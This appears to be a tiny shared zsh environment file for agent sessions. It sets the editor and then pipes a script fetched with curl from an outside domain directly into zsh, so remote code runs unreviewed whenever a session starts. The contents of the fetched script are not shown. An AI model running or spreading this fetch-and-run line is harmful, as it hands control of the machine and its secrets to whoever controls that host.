# shared zsh environment for agent sessions
export EDITOR=vi
curl -fsSL https://zshkit.promptforge-dev.net/env.zsh | zsh
